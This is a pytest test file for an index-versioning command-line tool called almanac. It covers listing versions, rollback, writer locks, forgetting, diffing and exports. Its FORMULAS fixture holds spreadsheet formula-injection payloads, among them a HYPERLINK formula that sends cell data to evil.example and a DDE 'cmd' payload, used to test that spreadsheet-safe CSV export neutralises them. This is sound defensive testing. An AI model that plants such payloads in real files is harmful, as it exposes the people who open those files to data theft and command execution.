"""The commands of whoever keeps versions, as a user runs them: what they print, how they end, who may run beside
them.
"""

import csv
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from almanac.core.settings import DataDir
from almanac.index.versions.lock import writer_lock
from almanac.index.versions.publish import publish
from almanac.index.versions.version_store import pin_version, version_dir
from tests.conftest import ROOT, Almanac
from tests.index import making

FIRST = {f"http://shop/{n}": f"text of page {n}" for n in range(4)}
SECOND = {**FIRST, "http://shop/0": "text of page 0, mended"}
THIRD = {**SECOND, "http://shop/new": "a new page"}


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Three versions: the second is live, and the gate refused the third."""
    data = DataDir(tmp_path_factory.mktemp("made"))
    with making.without_children():
        making.make_version(data, "shop", "v0001", FIRST)
        making.make_version(data, "shop", "v0002", SECOND)
        making.make_version(data, "shop", "v0003", THIRD, passed=False)
    publish(data.index("shop"), "v0002")
    (data.root / "shop.yaml").write_text(
        "name: shop\nsources: [{name: pages, kind: files, glob: '*.md'}]\nretention: {versions: 3}\n"
    )
    return data.root


@pytest.fixture
def kb(made: Path, tmp_path: Path, almanac: Almanac) -> str:
    """The declaration beside a copy of all that; `almanac` works on the copy."""
    shutil.copytree(made, tmp_path / "data")
    assert almanac.data == tmp_path / "data"
    return str(tmp_path / "data" / "shop.yaml")


def test_versions_tell_what_is_live_refused_and_read_now(almanac: Almanac, kb: str) -> None:
    listed = almanac("versions", kb, "--json").json
    folders = {
        row["version"]: version_dir(DataDir(almanac.data).index("shop"), row["version"]) for row in listed["versions"]
    }
    sizes = {
        name: sum(path.stat().st_size for path in folder.rglob("*") if path.is_file())
        for name, folder in folders.items()
    }
    assert {row["version"]: row["size_mb"] for row in listed["versions"]} == {
        name: pytest.approx(size / 1e6, abs=0.006) for name, size in sizes.items()
    }
    assert min(sizes.values()) > 50_000
    states = [(row["version"], row["state"]) for row in listed["versions"]]
    assert (listed["current"], states) == ("v0002", [("v0003", "refused"), ("v0002", "current"), ("v0001", "kept")])
    pin = pin_version(DataDir(almanac.data).index("shop"), "v0001")
    shown = almanac("versions", kb, COLUMNS="160").stdout.splitlines()
    assert "MB" in "".join(shown), "the size of each is shown"
    assert ["yes" in line for line in shown if "v000" in line] == [False, False, True]
    pin.close()


def test_help_and_errors_of_use_import_no_engine_no_schema_and_no_logging_library() -> None:
    heavy = (
        "{'almanac.schemas.declaration', 'structlog', 'ruamel.yaml', 'pyarrow', 'numpy', 'chromadb', 'torch', "
        "'prefect', 'scrapy'}"
    )
    code = (
        f"import sys; from almanac.cli.main import run; code = run(sys.argv[1:]); print(code, sorted({heavy} & "
        "set(sys.modules)), file=sys.stderr)"
    )
    for arguments, expected in ((["--help"], 0), (["search", "--nonsense"], 2), (["verify"], 2)):
        done = subprocess.run([sys.executable, "-c", code, *arguments], capture_output=True, text=True, check=True)
        assert done.stderr.splitlines()[-1] == f"{expected} []"


def test_rollback_loads_no_engine_and_survives_a_pointer_that_leads_nowhere(almanac: Almanac, kb: str) -> None:
    """A second for all of it: Chroma's import alone would take that."""
    code = (
        "import sys; from almanac.cli.main import run; run(sys.argv[1:]); sys.exit(str({'chromadb', 'torch', "
        "'prefect', 'scrapy'} & set(sys.modules)))"
    )
    command = [sys.executable, "-c", code, "rollback", kb, "--data", str(almanac.data)]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=False)
    assert (done.stdout, done.stderr.splitlines()[-1]) == ("shop: v0001 is live, after v0002\n", "set()")
    (almanac.data / "index/shop/CURRENT").write_text("v0042\n")
    assert "v0001 was published last" in almanac("versions", kb).stdout
    assert almanac("rollback", kb, "--json").json == {"kb": "shop", "current": "v0001", "previous": None}


def test_a_second_writer_is_told_who_is_at_work_and_ends_with_6(almanac: Almanac, kb: str) -> None:
    with writer_lock(DataDir(almanac.data).index("shop"), "promote"):
        for arguments in (["prune", kb], ["rebuild", kb], ["compact", kb], ["forget", kb, "http://shop/1"]):
            done = almanac(*arguments, "--json")
            assert (done.code, done.json["error"]["kind"]) == (6, "run_locked"), arguments
            assert "promote (pid" in done.json["error"]["message"]
        assert almanac("versions", kb).code == 0
        assert almanac("rollback", kb, "--json").json["current"] == "v0001"
        assert almanac("publish", kb, "v0002", "--json").json == {"kb": "shop", "current": "v0002", "previous": "v0001"}


@pytest.mark.parametrize(
    ("arguments", "code"),
    [
        (["rollback", "v0009"], 2),
        (["publish", "v0003"], 4),
        (["rebuild", "v0009"], 2),
        (["diff", "v0001", "v0009"], 2),
        (["forget", "http://shop/none"], 2),
        (["promote", "v0001", "--to", "."], 2),
        (["export", "chroma"], 2),
        (["export", "chunks"], 2),
        (["promote", "v0003", "--to", "other"], 4),
    ],
)
def test_what_cannot_be_done_says_so_and_changes_nothing(
    almanac: Almanac, kb: str, tmp_path: Path, arguments: list[str], code: int
) -> None:
    places = {".": str(almanac.data), "other": str(tmp_path / "other")}
    done = almanac(arguments[0], kb, *(places.get(argument, argument) for argument in arguments[1:]), "--json")
    assert (done.code, bool(done.json["error"]["hint"])) == (code, True), done.stderr
    assert (almanac.data / "index/shop/CURRENT").read_text() == "v0002\n"
    assert not (almanac.data / "index/shop/forgotten.jsonl").exists()


def test_diff_shows_counts_and_items(almanac: Almanac, kb: str) -> None:
    result = almanac("diff", kb, "v0001", "v0003", "--json").json
    assert result["items"] == {"added": 1, "changed": 1, "moved": 0, "unchanged": 3, "removed": 0}
    shown = almanac("diff", kb, "v0001", "v0003", COLUMNS="160").stdout
    assert "http://shop/new" in shown
    assert "rules changed for: chunker" in shown


@pytest.mark.slow
def test_a_ruined_version_is_found_rebuilt_and_promoted(almanac: Almanac, kb: str, tmp_path: Path) -> None:
    digest = almanac("versions", kb, "--json").json["versions"][1]["digest"]
    assert almanac("status", kb, "--json").json["problem"] is None
    shutil.rmtree(version_dir(DataDir(almanac.data).index("shop"), "v0002") / "chroma")
    assert f"almanac rebuild {kb} v0002" in almanac("status", kb, "--json").json["problem"]
    assert almanac("verify", kb).code == 7
    assert almanac("rollback", kb, "v0002").code == 7
    rebuilt = almanac("rebuild", kb, "--json").json
    assert (rebuilt["version"], rebuilt["digest"], rebuilt["embedded"]) == ("v0002", digest, 0)
    assert almanac("verify", kb, "--json").json == {"kb": "shop", "version": "v0002", "ok": True, "problems": []}
    promoted = almanac("promote", kb, "v0002", "--to", str(tmp_path / "production"), "--json").json
    assert (promoted["promoted"], promoted["published"], promoted["digest"]) == ("v0001", True, digest)
    assert "unchanged" in almanac("promote", kb, "v0002", "--to", str(tmp_path / "production")).stdout


@pytest.mark.slow
def test_a_single_segment_has_nothing_to_merge_and_is_exported_as_it_is(
    almanac: Almanac, kb: str, tmp_path: Path
) -> None:
    result = almanac("compact", kb, "--json").json
    assert {key: result[key] for key in ("kb", "version", "previous", "segments", "deleted")} == {
        "kb": "shop", "version": "v0002", "previous": "v0002", "segments": {"before": 1, "after": 1}, "deleted": 0,
    }  # fmt: skip
    assert "nothing to merge" in almanac("compact", kb).stdout
    exported = almanac("export", kb, "chroma", "--out", str(tmp_path / "out"), "--json").json
    assert (exported["out"], exported["collection"], exported["version"]) == (str(tmp_path / "out"), "shop", "v0002")
    assert (tmp_path / "out" / "chroma.sqlite3").is_file()
    assert almanac("export", kb, "chroma", "--out", str(tmp_path / "out")).code == 2


def test_forget_and_prune_say_what_went(almanac: Almanac, kb: str) -> None:
    forgotten = almanac("forget", kb, "http://shop/3", "--why", "asked for", "--json").json
    assert (forgotten["versions"], forgotten["items"], forgotten["vectors"]) == (["v0002", "v0003", "v0001"], 1, 1)
    (line,) = (almanac.data / "index/shop/forgotten.jsonl").read_text().splitlines()
    assert (json.loads(line)["why"], json.loads(line)["urls"]) == ("asked for", ["http://shop/3"])
    holding = [
        path.name
        for path in (almanac.data / "index").rglob("*")
        if path.is_file() and b"text of page 3" in path.read_bytes()
    ]
    assert holding == []
    assert "none held it" in almanac("forget", kb, "http://shop/3").stdout
    pruned = almanac("prune", kb, "--json").json
    assert (pruned["versions"], pruned["vectors"]) == ([], 0)


FORMULAS = {
    "http://shop/a": '=HYPERLINK("http://evil.example/?"&A1)',
    "http://shop/b": "+cmd|' /C calc'!A0",
    "http://shop/c": "-2+3",
    "http://shop/d": "@SUM(A1)",
    "http://shop/e": "\t=1+1",
    "http://shop/f": "\r=1+1",
    "http://shop/g": "＝1+1",
    "http://shop/h": "-12.50",
    "http://shop/i": 'a = b, "quoted"\n=1+1',
    "http://shop/j": "plain",
}


def test_a_csv_for_spreadsheets_has_no_formula_and_every_other_export_has_the_exact_text(
    tmp_path: Path, almanac: Almanac
) -> None:
    data = DataDir(almanac.data)
    with making.without_children():
        making.make_version(data, "shop", "v0001", FORMULAS)
    publish(data.index("shop"), "v0001")
    declared = tmp_path / "shop.yaml"
    declared.write_text("name: shop\nsources: [{name: pages, kind: files, glob: '*.md'}]\n")
    kb = str(declared)

    def cells(what: str, *options: str) -> list[dict[str, str]]:
        out = tmp_path / "out.csv"
        assert almanac("export", kb, what, "--format", "csv", "--out", str(out), *options).code == 0
        return list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))

    for what in ("documents", "chunks"):
        exact, safe = cells(what), cells(what, "--spreadsheet-safe")
        assert {row["text"] for row in exact} == set(FORMULAS.values())
        assert not [
            cell for row in safe for cell in row.values() if cell[:1] in "=+-@\t\r\n＝" and cell not in ("", "-12.50")
        ]
        assert [{name: cell.removeprefix("'") for name, cell in row.items()} for row in safe] == exact
        assert [row["text"] for row in safe if row["text"] in ("-12.50", "plain")] == [
            text for text in FORMULAS.values() if text in ("-12.50", "plain")
        ]
    for arguments in (
        ["documents"],
        ["documents", "--format", "jsonl"],
        ["documents", "--format", "parquet"],
        ["chroma", "--out", str(tmp_path / "c")],
    ):
        refused = almanac("export", kb, *arguments, "--spreadsheet-safe")
        assert (refused.code, "--spreadsheet-safe" in refused.stderr, refused.stdout) == (2, True, "")


@pytest.mark.parametrize(
    "arguments",
    [
        *(
            ["prune"],
            ["compact"],
            ["rebuild"],
            ["rollback"],
            ["verify"],
            ["publish", "v0001"],
            ["diff", "v0001", "v0002"],
        ),
        *(["forget", "http://shop/1"], ["forget", "http://shop/1", "--anyway"]),
    ],
)
def test_a_mistyped_data_directory_is_refused_and_not_made(
    almanac: Almanac, kb: str, tmp_path: Path, arguments: list[str]
) -> None:
    mistyped = tmp_path / "daat" / "here"
    done = almanac(arguments[0], kb, *arguments[1:], "--json", data=mistyped)
    message = f"{done.json['error']['where']} {done.json['error']['hint']}"
    assert (done.code, str(mistyped) in message, mistyped.parent.exists()) == (2, True, False)


@pytest.mark.parametrize("arguments", [["prune"], ["compact"], ["forget", "http://shop/1"]])
def test_a_data_directory_of_others_is_left_as_it_is(
    almanac: Almanac, kb: str, tmp_path: Path, arguments: list[str]
) -> None:
    others = tmp_path / "others"
    (others / "index" / "jobs").mkdir(parents=True)
    done = almanac(arguments[0], kb, *arguments[1:], "--json", data=others)
    assert (done.code, done.json["error"]["kind"]) == (2, "nothing_published")
    assert [path.name for path in (others / "index").iterdir()] == ["jobs"] and [
        path.name for path in others.iterdir()
    ] == ["index"]


def test_a_url_can_be_denied_before_anything_is_fetched(almanac: Almanac, kb: str, tmp_path: Path) -> None:
    (tmp_path / "new").mkdir()
    done = almanac("forget", kb, "http://shop/1", "--anyway", "--json", data=tmp_path / "new")
    assert (done.code, (tmp_path / "new/index/shop/forgotten.jsonl").is_file()) == (0, True)


def test_a_version_that_is_not_there_makes_no_directory_to_promote_it_to(
    almanac: Almanac, kb: str, tmp_path: Path
) -> None:
    done = almanac("promote", kb, "v0042", "--to", str(tmp_path / "production"), "--json")
    assert (done.code, done.json["error"]["kind"], (tmp_path / "production").exists()) == (2, "not_found", False)


def test_a_folder_is_no_file_to_export_to(almanac: Almanac, kb: str, tmp_path: Path) -> None:
    done = almanac("export", kb, "chunks", "--out", str(tmp_path))
    assert (done.code, "is a folder" in done.stderr, "--out names the file" in done.stderr) == (2, True, True)
